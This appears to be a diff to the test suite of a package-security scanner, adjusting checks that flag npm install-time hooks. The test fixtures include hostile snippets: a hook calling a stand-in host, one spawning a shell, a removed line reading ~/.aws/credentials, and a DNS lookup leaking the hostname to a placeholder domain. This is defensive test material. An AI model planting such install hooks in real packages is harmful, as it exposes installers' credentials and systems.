@@ -88,14 +88,15 @@ check "a script-truncated note says so" grep -q script-truncated "$TMP/deep.json
 net='const https = require("https"); module.exports = () => https.get("https://x.example.com");'
 d=$(pkg '{ "name": "inst-js", "version": "1.0.0", "scripts": { "postinstall": "node install.js" } }' \
   install.js 'require("./lib/net")();' lib/net.js "$net")
-is "$(found "$d")" "pkg.install-time.network high net.js" "node install.js → its local require uses https"
+is "$(found "$d" | uniq)" "pkg.install-time.network high net.js" "node install.js → its local require uses https"
 d=$(pkg '{ "name": "inst-js", "version": "1.0.0", "main": "lib/net.js", "scripts": { "install": "node ." } }' \
   lib/net.js "$net")
-is "$(found "$d")" "pkg.install-time.network high net.js" "node . → main"
+is "$(found "$d" | uniq)" "pkg.install-time.network high net.js" "node . → main"
 d=$(pkg '{ "name": "inst-js", "version": "1.0.0", "scripts": { "preinstall": "node -e \"require(\u0027./lib/cp.js\u0027)\"" } }' \
-  lib/cp.js 'require("child_process").exec("id"); require("fs").readFileSync(require("os").homedir() + "/.aws/credentials");')
-is "$(found "$d")" "pkg.install-time.child-process high cp.js
-pkg.install-time.credentials critical cp.js" "node -e \"require('./x')\": child_process and credentials"
+  lib/cp.js 'const { spawn } = require("child_process"); spawn("sh", ["-c", "id"]);
+const dns = require("dns"); dns.resolve(require("os").hostname() + ".x.invalid", () => {});')
+is "$(found "$d" | uniq)" "pkg.install-time.child-process high cp.js
+pkg.install-time.dns high cp.js" "node -e \"require('./x')\": child_process and dns"
 d=$(pkg '{ "name": "inst-js", "version": "1.0.0", "main": "lib/net.js" }' lib/net.js "$net")
 is "$(found "$d")" "" "twin: the same code as runtime code (no hook) stays ordinary"
 d=$(pkg '{ "name": "inst-js", "version": "1.0.0", "main": "lib/net.js", "scripts": { "postinstall": "node scripts/build.js" } }' \
